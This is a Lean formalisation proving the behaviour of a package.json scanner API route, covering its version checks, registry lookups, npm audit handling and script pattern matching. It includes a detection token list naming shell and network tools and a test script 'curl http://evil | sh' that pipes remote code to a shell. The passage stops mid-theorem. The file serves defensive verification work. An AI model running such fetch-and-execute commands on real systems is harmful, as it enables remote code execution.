import Mathlib

/-!
# Verification of the package-scanner scan route

Shallow embedding of `src/pages/api/scan.ts` (the Next.js API route that
scans an uploaded `package.json`) together with the spec's Reputation
Verifier pipeline, and proofs of the behavioural claims about it.

Network and process effects are modelled by explicit oracles:
* the npm registry responses (`NpmResponse`, one per package name),
* the deno.land responses (`DenoResponse`),
* the outcome of the server-side `npm audit --json` invocation
  (`AuditOutcome`),
* the process-wide `knownDenoPackages` cache, a plain set of names.

JavaScript string truthiness (`!packageJson.name`) is modelled by
`truthyStr`; `Object.entries` iteration order is modelled by association
lists `List (String × String)`.
-/

namespace PackageScanner

/-- The `PackageJson` interface of `scan.ts` (lines 8–14): all fields
optional; mappings keep their declaration order. -/
structure PackageJson where
  name : Option String := none
  version : Option String := none
  dependencies : Option (List (String × String)) := none
  devDependencies : Option (List (String × String)) := none
  scripts : Option (List (String × String)) := none
deriving Repr, DecidableEq

/-- JavaScript truthiness of an optional string field: `undefined` and the
empty string are falsy, every other string truthy. -/
def truthyStr : Option String → Bool
  | none => false
  | some s => !(s == "")

/-- JavaScript `a || b` on an optional string (`vuln.name || key`):
falls through to `b` when `a` is absent or empty. -/
def jsOr (a : Option String) (b : String) : String :=
  match a with
  | none => b
  | some s => if s == "" then b else s

/-- One issue string pushed by the scan, one constructor per `issues.push`
site of `scan.ts` (plus the two blocklist issues of the spec's §4.4
pipeline, see `specVerifierDep`). `render` recovers the exact string. -/
inductive Issue where
  | missingNameOrVersion
  | suspiciousScript (key script : String)
  | invalidVersion (pkg version : String)
  | maliciousPackage (pkg : String)
  | npmAudit (name severity : String)
  | auditFailed
  | denoMalicious (pkg : String)
  | blocklistedPrimary (pkg : String)
  | blocklistedSecondary (pkg : String)
deriving Repr, DecidableEq

/-- The exact issue string each constructor stands for in `scan.ts`
(blocklist issues follow the spec's wording, they have no source string). -/
def Issue.render : Issue → String
  | .missingNameOrVersion => "Invalid package.json: Missing name or version."
  | .suspiciousScript key script =>
      "Suspicious script detected in " ++ key ++ ": " ++ script
  | .invalidVersion pkg version =>
      "Invalid version format for " ++ pkg ++ ": " ++ version
  | .maliciousPackage pkg =>
      "Potentially malicious package detected: " ++ pkg ++
      ". Always download from official sources like npmjs.com."
  | .npmAudit name severity => "npm audit: " ++ name ++ " (" ++ severity ++ ")"
  | .auditFailed => "Failed to run npm audit."
  | .denoMalicious pkg =>
      "Deno security alert: Potential malicious package detected: " ++ pkg ++
      ". Only use packages from deno.land/x."
  | .blocklistedPrimary pkg => "Blocklisted package (primary ecosystem): " ++ pkg
  | .blocklistedSecondary pkg => "Blocklisted package (secondary ecosystem): " ++ pkg

/-- Outcome of `fetch('https://registry.npmjs.org/' ++ pkg)` followed by
`response.json()`: either the whole call throws (rejection of `fetch` or of
`response.json()`, both land in the same `catch`), or a response with an
`ok` flag and a body whose `versions` field is absent (`none`) or present
with the given list of version keys. -/
inductive NpmResponse where
  | transportError
  | response (ok : Bool) (versions : Option (List String))
deriving Repr, DecidableEq

/-- Outcome of `fetch('https://deno.land/x/' ++ pkg ++ '/mod.ts')`: a
thrown transport error or an HTTP status code. -/
inductive DenoResponse where
  | transportError
  | status (code : Nat)
deriving Repr, DecidableEq

/-- One entry of `auditResults.vulnerabilities` as read by `scan.ts`
lines 100–103: the object key, and the (JS-truthy) `name` and `severity`
fields, `none` standing for absent/falsy. -/
structure AuditVuln where
  key : String
  name : Option String
  severity : Option String
deriving Repr, DecidableEq

/-- Outcome of `execPromise('npm audit --json')` plus `JSON.parse`:
`failure` covers a rejected exec or unparsable stdout (both reach the
`catch`); `success` carries the optional `vulnerabilities` mapping in key
order. -/
inductive AuditOutcome where
  | failure
  | success (vulnerabilities : Option (List AuditVuln))
deriving Repr, DecidableEq

/-- The scan's external environment: registry oracles, audit outcome and
the `knownDenoPackages` cache contents at scan time. -/
structure ScanEnv where
  npm : String → NpmResponse
  deno : String → DenoResponse
  audit : AuditOutcome
  denoCache : List String

/-! ## Version-format regexes

`scan.ts` line 86 tests `/^\d+\.\d+\.\d+$/` and `/^[~^]\d+\.\d+\.\d+$/`.
Both are anchored and deterministic, so they are modelled by a direct
matcher over the character list. -/

/-- Consume `\d+\.`: one or more digits followed by a literal dot;
returns the rest of the input on success. -/
def matchNumDot (s : List Char) : Option (List Char) :=
  if (s.takeWhile Char.isDigit).isEmpty then none
  else
    match s.dropWhile Char.isDigit with
    | '.' :: rest => some rest
    | _ => none

/-- Consume `\d+$`: one or more digits ending the input. -/
def matchNumEnd (s : List Char) : Bool :=
  !(s.takeWhile Char.isDigit).isEmpty && (s.dropWhile Char.isDigit).isEmpty

/-- `/^\d+\.\d+\.\d+$/.test s` -/
def validPlainVersion (s : String) : Bool :=
  match matchNumDot s.data with
  | none => false
  | some r1 =>
    match matchNumDot r1 with
    | none => false
    | some r2 => matchNumEnd r2

/-- `/^[~^]\d+\.\d+\.\d+$/.test s` -/
def validPrefixedVersion (s : String) : Bool :=
  match s.data with
  | [] => false
  | c :: rest => (c == '~' || c == '^') && validPlainVersion (String.mk rest)

/-- A version spec passes `scan.ts`'s check when either regex accepts it;
line 86 pushes the invalid-version issue exactly when this is `false`. -/
def validVersionSpec (s : String) : Bool :=
  validPlainVersion s || validPrefixedVersion s

/-! ## The suspicious-script pattern (Pattern Library)

`scan.ts` line 77 tests one case-insensitive regex that is an alternation
of near-literal tokens; the only regex metacharacter occurring in a token
is `.` (any character). Matching is unanchored substring search. -/

/-- The alternation's tokens, in source order. A `.` in a token is the
regex wildcard. -/
def suspiciousTokens : List String :=
  ["curl", "wget", "rm -rf", "base64", "eval", "exec", "setTimeout",
   "setInterval", "fs.writeFileSync", "child_process", "netcat", "nc",
   "bash", "sh", "powershell", "python", "perl", "node", "java", "lua",
   "ruby", "php", "openssl", "env", "ncat", "socat", "reverse shell",
   "crypto", "dns", "http", "get", "post", "fetch", "axios", "request",
   "XMLHttpRequest", "document.write"]

/-- Match a token at the head of `s`: each token character is either the
wildcard `.` or compared case-insensitively. -/
def patMatchAt : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | p :: ps, c :: cs => (p == '.' || p.toLower == c.toLower) && patMatchAt ps cs

/-- Unanchored search: does the token match at some position of `s`? -/
def patSearch (pat : List Char) : List Char → Bool
  | [] => patMatchAt pat []
  | c :: cs => patMatchAt pat (c :: cs) || patSearch pat cs

/-- `regex.test script` for the suspicious-script regex of line 77. -/
def scriptSuspicious (script : String) : Bool :=
  suspiciousTokens.any fun t => patSearch t.data script.data

/-! ## The scan functions of `scan.ts` -/

/-- `isMaliciousPackage` (`scan.ts` lines 122–132): a transport failure or
non-`ok` status is flagged; on success the code returns
`data.versions && Object.keys(data.versions).length === 0`, which is falsy
(not flagged) when `versions` is absent and tests emptiness when present. -/
def isMaliciousPackage (npm : String → NpmResponse) (pkg : String) : Bool :=
  match npm pkg with
  | .transportError => true
  | .response ok versions =>
    if !ok then true
    else
      match versions with
      | none => false
      | some vs => vs.isEmpty

/-- `isDenoMaliciousPackage` (`scan.ts` lines 134–143), instrumented with
the list of package names actually fetched from deno.land: names missing
from `knownDenoPackages` return immediately with no fetch; otherwise any
non-200 status or transport failure is flagged. -/
def isDenoMaliciousPackage (cache : List String) (deno : String → DenoResponse)
    (pkg : String) : Bool × List String :=
  if !cache.contains pkg then (false, [])
  else
    match deno pkg with
    | .transportError => (true, [pkg])
    | .status code => (!(code == 200), [pkg])

/-- Issues pushed for one `scripts` entry (`scan.ts` lines 76–80). -/
def scriptEntryIssues (kv : String × String) : List Issue :=
  if scriptSuspicious kv.2 then [.suspiciousScript kv.1 kv.2] else []

/-- Issues pushed for one `dependencies` entry by the first dependency
loop (`scan.ts` lines 85–92): version-format check then npm live check. -/
def depEntryIssues (npm : String → NpmResponse) (kv : String × String) : List Issue :=
  (if !validVersionSpec kv.2 then [.invalidVersion kv.1 kv.2] else []) ++
  (if isMaliciousPackage npm kv.1 then [.maliciousPackage kv.1] else [])

/-- Issues pushed for one dependency name by the Deno loop
(`scan.ts` lines 112–116). -/
def denoEntryIssues (cache : List String) (deno : String → DenoResponse)
    (kv : String × String) : List Issue :=
  if (isDenoMaliciousPackage cache deno kv.1).1 then [.denoMalicious kv.1] else []

/-- Issues pushed by the `npm audit` block (`scan.ts` lines 96–108). -/
def auditBlockIssues : AuditOutcome → List Issue
  | .failure => [.auditFailed]
  | .success none => []
  | .success (some vulns) =>
    vulns.map fun v => .npmAudit (jsOr v.name v.key) (jsOr v.severity "unknown severity")

/-- `runScan` (`scan.ts` lines 66–120): sequential pushes into `issues`,
each loop modelled by a left fold appending that entry's issues. -/
def runScan (env : ScanEnv) (p : PackageJson) : List Issue :=
  let issues : List Issue := []
  let issues :=
    if !truthyStr p.name || !truthyStr p.version then
      issues ++ [.missingNameOrVersion]
    else issues
  let issues :=
    match p.scripts with
    | some scripts => scripts.foldl (fun acc kv => acc ++ scriptEntryIssues kv) issues
    | none => issues
  let issues :=
    match p.dependencies with
    | some deps => deps.foldl (fun acc kv => acc ++ depEntryIssues env.npm kv) issues
    | none => issues
  let issues := issues ++ auditBlockIssues env.audit
  let issues :=
    match p.dependencies with
    | some deps =>
      deps.foldl (fun acc kv => acc ++ denoEntryIssues env.denoCache env.deno kv) issues
    | none => issues
  issues

/-- `scanPackageJson` (`scan.ts` lines 59–64): rendered issue strings, or
the `'No issues found'` sentinel when empty. -/
def scanPackageJson (env : ScanEnv) (p : PackageJson) : List String :=
  let issues := (runScan env p).map Issue.render
  if issues.isEmpty then ["No issues found"] else issues

/-- An API response of the route: a JSON body with an HTTP status. -/
inductive ApiResponse where
  | ok (status : Nat) (issues : List String)
  | err (status : Nat) (msg : String)
deriving Repr, DecidableEq

/-- `handler` (`scan.ts` lines 41–57): POST requests are scanned and
answered with status 200 (the embedded scan is total, so the `catch`
branch answering 500 is unreachable for a structurally-typed manifest);
any other method gets 405. -/
def handler (env : ScanEnv) (method : String) (body : PackageJson) : ApiResponse :=
  if method == "POST" then .ok 200 (scanPackageJson env body)
  else .err 405 "Method Not Allowed"

/-! ## Segment views of `runScan`

The same five blocks of `runScan`, written compositionally; the
decomposition lemma below proves the fold-based `runScan` equal to their
concatenation. -/

/-- Metadata block (`scan.ts` lines 70–72). -/
def metadataIssues (p : PackageJson) : List Issue :=
  if !truthyStr p.name || !truthyStr p.version then [.missingNameOrVersion] else []

/-- Script block (`scan.ts` lines 75–81) as a flat map in script order. -/
def scriptIssues (p : PackageJson) : List Issue :=
  (p.scripts.getD []).flatMap scriptEntryIssues

/-- First dependency block (`scan.ts` lines 84–93) in dependency order. -/
def primaryDepIssues (npm : String → NpmResponse) (p : PackageJson) : List Issue :=
  (p.dependencies.getD []).flatMap (depEntryIssues npm)

/-- Deno block (`scan.ts` lines 111–117) in dependency order. -/
def denoDepIssues (cache : List String) (deno : String → DenoResponse)
    (p : PackageJson) : List Issue :=
  (p.dependencies.getD []).flatMap (denoEntryIssues cache deno)

/-- Recogniser for issues produced by the `npm audit` block. -/
def Issue.isAuditIssue : Issue → Bool
  | .npmAudit _ _ => true
  | .auditFailed => true
  | _ => false

/-- Recogniser for per-dependency issues (version-format, npm live check,
deno live check, and the spec pipeline's blocklist issues). -/
def Issue.isDepIssue : Issue → Bool
  | .invalidVersion _ _ => true
  | .maliciousPackage _ => true
  | .denoMalicious _ => true
  | .blocklistedPrimary _ => true
  | .blocklistedSecondary _ => true
  | _ => false

/-! ## The spec's Reputation Verifier pipeline (blocklist variant)

Modelled from the spec: the repository has two scan-route variants (spec
§2 counts "≈170 lines across both scan-route variants", §9 records a
"static blocklist-only check" variant), but only the dynamic
registry-check variant is under `src/`; the static blocklists and the
pipeline applying them are therefore modelled from §4.4 of the spec. -/

/-- Modelled from the spec: §4.4's per-dependency pipeline of the
Reputation Verifier — (1) version-format check, (2) primary static
blocklist check (pure membership, no registry oracle consulted),
(3) primary live check, (4) secondary static blocklist check, (5) the
cache-gated secondary live check. -/
def specVerifierDep (primaryBlocklist secondaryBlocklist cache : List String)
    (npm : String → NpmResponse) (deno : String → DenoResponse)
    (kv : String × String) : List Issue :=
  (if !validVersionSpec kv.2 then [.invalidVersion kv.1 kv.2] else []) ++
  (if primaryBlocklist.contains kv.1 then [.blocklistedPrimary kv.1] else []) ++
  (if isMaliciousPackage npm kv.1 then [.maliciousPackage kv.1] else []) ++
  (if secondaryBlocklist.contains kv.1 then [.blocklistedSecondary kv.1] else []) ++
  (if (isDenoMaliciousPackage cache deno kv.1).1 then [.denoMalicious kv.1] else [])

/-- Modelled from the spec: §4.4's input, "the union of `dependencies`
and `devDependencies`" in declaration order. -/
def unionDeps (p : PackageJson) : List (String × String) :=
  p.dependencies.getD [] ++ p.devDependencies.getD []

/-- Modelled from the spec: the Reputation Verifier applied to every
dependency of the manifest. -/
def specVerifier (primaryBlocklist secondaryBlocklist cache : List String)
    (npm : String → NpmResponse) (deno : String → DenoResponse)
    (p : PackageJson) : List Issue :=
  (unionDeps p).flatMap
    (specVerifierDep primaryBlocklist secondaryBlocklist cache npm deno)

/-! ## Helper lemmas -/

/-- A push-loop (`for … issues.push(…)`) is the accumulator followed by
the flat map of the per-entry issues. -/
theorem foldl_append_eq_flatMap {α : Type} (f : α → List Issue) :
    ∀ (l : List α) (init : List Issue),
      l.foldl (fun acc kv => acc ++ f kv) init = init ++ l.flatMap f := by
  intro l
  induction l with
  | nil => intro init; simp
  | cons kv rest ih =>
    intro init
    simp only [List.foldl_cons, List.flatMap_cons, ih, List.append_assoc]

/-- `runScan` is the concatenation of its five blocks, in source order:
metadata, scripts, first dependency loop, npm audit, Deno loop. -/
theorem runScan_eq_segments (env : ScanEnv) (p : PackageJson) :
    runScan env p =
      metadataIssues p ++ scriptIssues p ++ primaryDepIssues env.npm p ++
      auditBlockIssues env.audit ++ denoDepIssues env.denoCache env.deno p := by
  unfold runScan metadataIssues scriptIssues primaryDepIssues denoDepIssues
  cases hs : p.scripts <;> cases hd : p.dependencies <;>
    simp [foldl_append_eq_flatMap, List.append_assoc]

/-- Membership in the scan output, segment by segment. -/
theorem mem_runScan_iff (env : ScanEnv) (p : PackageJson) (i : Issue) :
    i ∈ runScan env p ↔
      i ∈ metadataIssues p ∨ i ∈ scriptIssues p ∨ i ∈ primaryDepIssues env.npm p ∨
      i ∈ auditBlockIssues env.audit ∨ i ∈ denoDepIssues env.denoCache env.deno p := by
  rw [runScan_eq_segments]
  simp [List.mem_append, or_assoc]

/-- The metadata block only ever contains the combined missing-metadata
issue. -/
theorem mem_metadataIssues_eq {p : PackageJson} {i : Issue}
    (h : i ∈ metadataIssues p) : i = .missingNameOrVersion := by
  unfold metadataIssues at h
  split at h <;> simp_all

/-- The script block only contains suspicious-script issues. -/
theorem mem_scriptIssues_shape {p : PackageJson} {i : Issue}
    (h : i ∈ scriptIssues p) : ∃ k s, i = .suspiciousScript k s := by
  unfold scriptIssues at h
  rw [List.mem_flatMap] at h
  obtain ⟨kv, _, hi⟩ := h
  unfold scriptEntryIssues at hi
  split at hi <;> simp_all

/-- The first dependency block only contains invalid-version and
malicious-package issues. -/
theorem mem_primaryDepIssues_shape {npm : String → NpmResponse} {p : PackageJson}
    {i : Issue} (h : i ∈ primaryDepIssues npm p) :
    (∃ a b, i = .invalidVersion a b) ∨ ∃ a, i = .maliciousPackage a := by
  unfold primaryDepIssues at h
  rw [List.mem_flatMap] at h
  obtain ⟨kv, _, hi⟩ := h
  unfold depEntryIssues at hi
  rw [List.mem_append] at hi
  rcases hi with hi | hi <;> split at hi <;> simp_all

/-- Everything the audit block produces is recognised by `isAuditIssue`. -/
theorem mem_auditBlock_isAudit {a : AuditOutcome} {i : Issue}
    (h : i ∈ auditBlockIssues a) : i.isAuditIssue = true := by
  unfold auditBlockIssues at h
  match a with
  | .failure => simp at h; subst h; rfl
  | .success none => simp at h
  | .success (some vulns) =>
    rw [List.mem_map] at h
    obtain ⟨v, _, hv⟩ := h
    subst hv; rfl

/-- The Deno block only contains Deno security issues. -/
theorem mem_denoDepIssues_shape {cache : List String} {deno : String → DenoResponse}
    {p : PackageJson} {i : Issue} (h : i ∈ denoDepIssues cache deno p) :
    ∃ a, i = .denoMalicious a := by
  unfold denoDepIssues at h
  rw [List.mem_flatMap] at h
  obtain ⟨kv, _, hi⟩ := h
  unfold denoEntryIssues at hi
  split at hi <;> simp_all

/-- `isMaliciousPackage` flags exactly the three spec cases: transport
failure, non-success status, or a success whose `versions` mapping is
present and empty. -/
theorem isMaliciousPackage_true_iff (npm : String → NpmResponse) (pkg : String) :
    isMaliciousPackage npm pkg = true ↔
      (npm pkg = .transportError ∨ (∃ vs, npm pkg = .response false vs) ∨
        npm pkg = .response true (some [])) := by
  unfold isMaliciousPackage
  cases h : npm pkg with
  | transportError => simp
  | response ok versions =>
    cases ok <;> cases versions <;> simp_all [List.isEmpty_iff]

/-- A malicious-package issue for `pkg` is in the first dependency block
exactly when `pkg` is a declared dependency name and its npm check flags
it. -/
theorem maliciousPackage_mem_primaryDepIssues {npm : String → NpmResponse}
    {p : PackageJson} {pkg : String} :
    Issue.maliciousPackage pkg ∈ primaryDepIssues npm p ↔
      ((∃ kv ∈ p.dependencies.getD [], kv.1 = pkg) ∧
        isMaliciousPackage npm pkg = true) := by
  unfold primaryDepIssues
  rw [List.mem_flatMap]
  constructor
  · rintro ⟨kv, hkv, hi⟩
    unfold depEntryIssues at hi
    rw [List.mem_append] at hi
    rcases hi with hi | hi
    · split at hi <;> simp at hi
    · split at hi
      · rename_i hmal
        simp at hi
        subst hi
        exact ⟨⟨kv, hkv, rfl⟩, hmal⟩
      · simp at hi
  · rintro ⟨⟨kv, hkv, hname⟩, hmal⟩
    refine ⟨kv, hkv, ?_⟩
    unfold depEntryIssues
    rw [List.mem_append]
    right
    rw [hname, hmal]
    simp

/-- A suspicious-script issue for `(k, s)` is in the script block exactly
when `(k, s)` is a declared script entry whose body matches the pattern. -/
theorem suspiciousScript_mem_scriptIssues {p : PackageJson} {k s : String} :
    Issue.suspiciousScript k s ∈ scriptIssues p ↔
      ((k, s) ∈ p.scripts.getD [] ∧ scriptSuspicious s = true) := by
  unfold scriptIssues
  rw [List.mem_flatMap]
  constructor
  · rintro ⟨kv, hkv, hi⟩
    unfold scriptEntryIssues at hi
    split at hi
    · rename_i hsusp
      simp at hi
      obtain ⟨hk, hs⟩ := hi
      subst hk; subst hs
      exact ⟨hkv, hsusp⟩
    · simp at hi
  · rintro ⟨hkv, hs⟩
    refine ⟨(k, s), hkv, ?_⟩
    unfold scriptEntryIssues
    simp [hs]

/-- The audit block only contains npm-audit entries or the audit-failure
sentinel. -/
theorem mem_auditBlock_shape {a : AuditOutcome} {i : Issue}
    (h : i ∈ auditBlockIssues a) :
    (∃ n s, i = .npmAudit n s) ∨ i = .auditFailed := by
  unfold auditBlockIssues at h
  match a with
  | .failure => simp at h; exact Or.inr h
  | .success none => simp at h
  | .success (some vulns) =>
    rw [List.mem_map] at h
    obtain ⟨v, _, hv⟩ := h
    exact Or.inl ⟨_, _, hv.symm⟩

/-- C1: for every package name present in either static blocklist, scanning
a manifest that declares that name as a dependency (in `dependencies` or
`devDependencies`) emits the corresponding blocklisted-package issue. The
theorem quantifies over arbitrary `npm`/`deno` oracles — including
all-transport-failure ones — so the emission holds regardless of registry
reachability, and the blocklist branch of `specVerifierDep` consults no
oracle, so no network call is needed. -/
theorem blocklist_hit_always_emits_issue
    (pb sb cache : List String) (npm : String → NpmResponse)
    (deno : String → DenoResponse) (p : PackageJson) (pkg ver : String)
    (hdep : (pkg, ver) ∈ unionDeps p) :
    (pb.contains pkg = true →
      Issue.blocklistedPrimary pkg ∈ specVerifier pb sb cache npm deno p) ∧
    (sb.contains pkg = true →
      Issue.blocklistedSecondary pkg ∈ specVerifier pb sb cache npm deno p) := by
  constructor <;> intro hin <;>
  · unfold specVerifier
    rw [List.mem_flatMap]
    refine ⟨(pkg, ver), hdep, ?_⟩
    unfold specVerifierDep
    simp [hin]
    simpa using hin

/-- Witness for C1: `shelljs` sits in the primary blocklist, both
registries are unreachable, and the blocklisted-package issue is still
emitted. -/
theorem blocklist_hit_always_emits_issue_witness :
    Issue.blocklistedPrimary "shelljs" ∈
      specVerifier ["shelljs"] [] [] (fun _ => .transportError)
        (fun _ => .transportError)
        { dependencies := some [("shelljs", "1.0.0")] } :=
  (blocklist_hit_always_emits_issue ["shelljs"] [] []
    (fun _ => .transportError) (fun _ => .transportError)
    { dependencies := some [("shelljs", "1.0.0")] } "shelljs" "1.0.0"
    (by decide)).1 (by decide)

/-- C2 counterexample: a POSTed manifest with neither `dependencies` nor
`devDependencies` is not rejected with a client error — the handler scans
it and answers 200 with an issues list. -/
theorem depless_manifest_not_rejected_cex :
    handler ⟨fun _ => .transportError, fun _ => .transportError, .success none, []⟩
      "POST" { name := some "app", version := some "1.0.0" } =
      .ok 200 ["No issues found"] := by rfl

/-- C2 amended: the scan entry point performs no dependency-presence
validation; a manifest lacking both `dependencies` and `devDependencies`
is scanned anyway and answered with status 200, and its result contains
no per-dependency issues. -/
theorem depless_manifest_scanned_with_status_200
    (env : ScanEnv) (m : PackageJson)
    (h1 : m.dependencies = none) (_h2 : m.devDependencies = none) :
    handler env "POST" m = .ok 200 (scanPackageJson env m) ∧
    (runScan env m).all (fun i => !i.isDepIssue) = true := by
  refine ⟨rfl, ?_⟩
  rw [List.all_eq_true]
  intro i hi
  rw [mem_runScan_iff] at hi
  rcases hi with hi | hi | hi | hi | hi
  · rw [mem_metadataIssues_eq hi]; rfl
  · obtain ⟨k, s, rfl⟩ := mem_scriptIssues_shape hi; rfl
  · unfold primaryDepIssues at hi; rw [h1] at hi; simp at hi
  · rcases mem_auditBlock_shape hi with ⟨n, sv, rfl⟩ | rfl <;> rfl
  · unfold denoDepIssues at hi; rw [h1] at hi; simp at hi

/-- Witness for C2's amended claim at a concrete dependency-less
manifest. -/
theorem depless_manifest_scanned_with_status_200_witness :
    handler ⟨fun _ => .transportError, fun _ => .transportError, .failure, []⟩
      "POST" { name := some "app", version := some "1.0.0" } =
      .ok 200 (scanPackageJson
        ⟨fun _ => .transportError, fun _ => .transportError, .failure, []⟩
        { name := some "app", version := some "1.0.0" }) :=
  (depless_manifest_scanned_with_status_200 _ _ rfl rfl).1

/-- C3 counterexample: a manifest missing both `name` and `version` gets
one combined missing-metadata issue, not one issue per missing field. -/
theorem single_combined_metadata_issue_cex :
    (runScan ⟨fun _ => .transportError, fun _ => .transportError, .success none, []⟩
        {}).count Issue.missingNameOrVersion = 1 := by rfl

/-- C4 counterexample: a dependency declared only in `devDependencies`
with an invalid version spec and an unreachable registry produces no
issues at all — the scan output is empty. -/
theorem devDependencies_ignored_cex :
    runScan ⟨fun _ => .transportError, fun _ => .transportError, .success none, []⟩
      { name := some "app", version := some "1.0.0",
        devDependencies := some [("evil-pkg", "not a version")] } = [] := by rfl

/-- C4 amended: the scan reads only `dependencies`; `devDependencies` is
ignored entirely, so replacing it with anything leaves the output
unchanged and a dependency declared only there is never checked. -/
theorem devDependencies_never_scanned (env : ScanEnv) (m : PackageJson)
    (d : Option (List (String × String))) :
    runScan env { m with devDependencies := d } = runScan env m := rfl

/-- C3 amended: the scan emits the single combined missing-metadata issue
exactly once whenever `name` or `version` is absent or empty (also when
both are), and never otherwise; it does not emit one issue per missing
field. -/
theorem combined_metadata_issue_count (env : ScanEnv) (m : PackageJson) :
    (runScan env m).count Issue.missingNameOrVersion =
      (if !truthyStr m.name || !truthyStr m.version then 1 else 0) := by
  rw [runScan_eq_segments]
  simp only [List.count_append]
  have h1 : (metadataIssues m).count Issue.missingNameOrVersion =
      (if !truthyStr m.name || !truthyStr m.version then 1 else 0) := by
    unfold metadataIssues
    split <;> simp
  have h2 : (scriptIssues m).count Issue.missingNameOrVersion = 0 := by
    rw [List.count_eq_zero]
    intro h
    obtain ⟨k, s, hks⟩ := mem_scriptIssues_shape h
    exact absurd hks (by simp)
  have h3 : (primaryDepIssues env.npm m).count Issue.missingNameOrVersion = 0 := by
    rw [List.count_eq_zero]
    intro h
    rcases mem_primaryDepIssues_shape h with ⟨a, b, hab⟩ | ⟨a, ha⟩ <;>
      simp_all
  have h4 : (auditBlockIssues env.audit).count Issue.missingNameOrVersion = 0 := by
    rw [List.count_eq_zero]
    intro h
    rcases mem_auditBlock_shape h with ⟨n, sv, hns⟩ | hf <;> simp_all
  have h5 : (denoDepIssues env.denoCache env.deno m).count
      Issue.missingNameOrVersion = 0 := by
    rw [List.count_eq_zero]
    intro h
    obtain ⟨a, ha⟩ := mem_denoDepIssues_shape h
    exact absurd ha (by simp)
  omega

/-- C5 counterexample: with both dependencies flagged by both live checks,
the two issues for the first dependency sit at positions 0 and 2, split
around the second dependency's primary issue at position 1 — the Deno
issues form a second pass instead of being adjacent to their dependency's
primary issues. -/
theorem deno_issues_in_second_pass_cex :
    runScan ⟨fun _ => .response false none, fun _ => .status 404, .success none,
        ["aaa", "bbb"]⟩
      { name := some "app", version := some "1.0.0",
        dependencies := some [("aaa", "1.0.0"), ("bbb", "1.0.0")] } =
      [.maliciousPackage "aaa", .maliciousPackage "bbb",
       .denoMalicious "aaa", .denoMalicious "bbb"] ∧
    ([Issue.maliciousPackage "aaa", .maliciousPackage "bbb",
      .denoMalicious "aaa", .denoMalicious "bbb"]).indexOf
        (Issue.denoMalicious "aaa") = 2 ∧
    ([Issue.maliciousPackage "aaa", .maliciousPackage "bbb",
      .denoMalicious "aaa", .denoMalicious "bbb"]).indexOf
        (Issue.maliciousPackage "bbb") = 1 := by
  refine ⟨by rfl, by rfl, by rfl⟩

/-- C5 amended: the output order is metadata issues, then script issues in
script-declaration order, then per-dependency version-format and
primary-registry issues in dependency-declaration order (version-format
before primary live check for each dependency), then npm-audit issues,
then the secondary-registry (Deno) issues as a separate second pass in
dependency-declaration order. -/
theorem scan_output_order (env : ScanEnv) (p : PackageJson) :
    runScan env p =
      metadataIssues p ++ scriptIssues p ++ primaryDepIssues env.npm p ++
      auditBlockIssues env.audit ++ denoDepIssues env.denoCache env.deno p :=
  runScan_eq_segments env p

/-- C6: for a declared dependency, the primary live check's
suspicious-package issue is emitted exactly when the registry call throws
(timeout, DNS failure, connection refused — all modelled by
`transportError`, which also makes the check return rather than abort),
answers with a non-success status, or answers successfully with a
`versions` mapping that is present and empty. -/
theorem npm_live_check_classification (env : ScanEnv) (m : PackageJson)
    (pkg ver : String) (hdep : (pkg, ver) ∈ m.dependencies.getD []) :
    Issue.maliciousPackage pkg ∈ runScan env m ↔
      (env.npm pkg = .transportError ∨ (∃ vs, env.npm pkg = .response false vs) ∨
        env.npm pkg = .response true (some [])) := by
  rw [← isMaliciousPackage_true_iff, mem_runScan_iff]
  constructor
  · rintro (hi | hi | hi | hi | hi)
    · exact absurd (mem_metadataIssues_eq hi) (by simp)
    · obtain ⟨k, s, h⟩ := mem_scriptIssues_shape hi; exact absurd h (by simp)
    · exact (maliciousPackage_mem_primaryDepIssues.mp hi).2
    · rcases mem_auditBlock_shape hi with ⟨n, sv, h⟩ | h <;> exact absurd h (by simp)
    · obtain ⟨a, h⟩ := mem_denoDepIssues_shape hi; exact absurd h (by simp)
  · intro hmal
    exact Or.inr (Or.inr (Or.inl
      (maliciousPackage_mem_primaryDepIssues.mpr ⟨⟨(pkg, ver), hdep, rfl⟩, hmal⟩)))

/-- Witness for C6: a dependency whose registry fetch throws is reported,
and the scan still returns a full result. -/
theorem npm_live_check_classification_witness :
    Issue.maliciousPackage "leftpad" ∈
      runScan ⟨fun _ => .transportError, fun _ => .transportError, .success none, []⟩
        { name := some "app", version := some "1.0.0",
          dependencies := some [("leftpad", "1.0.0")] } :=
  (npm_live_check_classification _ _ "leftpad" "1.0.0" (by decide)).mpr
    (Or.inl rfl)

/-- C7: the code evaluates `data.versions && Object.keys(data.versions).length === 0`,
so a 200 response whose body lacks the `versions` mapping yields a falsy
value — the package is reported clean, with no issue, instead of being
fail-closed as a transport failure. -/
theorem malformed_registry_body_not_flagged :
    isMaliciousPackage (fun _ => .response true none) "left-pad" = false ∧
    runScan ⟨fun _ => .response true none, fun _ => .transportError, .success none, []⟩
      { name := some "app", version := some "1.0.0",
        dependencies := some [("left-pad", "1.0.0")] } = [] := by
  exact ⟨rfl, rfl⟩

/-- C8: a declared script's suspicious-script issue — carrying that
script's key and its verbatim command — is emitted exactly when the script
body matches the pattern library's case-insensitive token alternation. -/
theorem suspicious_script_detection (env : ScanEnv) (m : PackageJson)
    (k s : String) (hscript : (k, s) ∈ m.scripts.getD []) :
    Issue.suspiciousScript k s ∈ runScan env m ↔ scriptSuspicious s = true := by
  rw [mem_runScan_iff]
  constructor
  · rintro (hi | hi | hi | hi | hi)
    · exact absurd (mem_metadataIssues_eq hi) (by simp)
    · exact (suspiciousScript_mem_scriptIssues.mp hi).2
    · rcases mem_primaryDepIssues_shape hi with ⟨a, b, h⟩ | ⟨a, h⟩ <;>
        exact absurd h (by simp)
    · rcases mem_auditBlock_shape hi with ⟨n, sv, h⟩ | h <;> exact absurd h (by simp)
    · obtain ⟨a, h⟩ := mem_denoDepIssues_shape hi; exact absurd h (by simp)
  · intro hs
    exact Or.inr (Or.inl (suspiciousScript_mem_scriptIssues.mpr ⟨hscript, hs⟩))

/-- Witness for C8: the `build` script fetching and piping to a shell is
flagged with its key and command, while a script matching no token is
not. -/
theorem suspicious_script_detection_witness :
    Issue.suspiciousScript "build" "curl http://evil | sh" ∈
      runScan ⟨fun _ => .transportError, fun _ => .transportError, .success none, []⟩
        { name := some "app", version := some "1.0.0",
          scripts := some [("build", "curl http://evil | sh"), ("ok", "true")] } ∧
    Issue.suspiciousScript "ok" "true" ∉
      runScan ⟨fun _ => .transportError, fun _ => .transportError, .success none, []⟩
        { name := some "app", version := some "1.0.0",
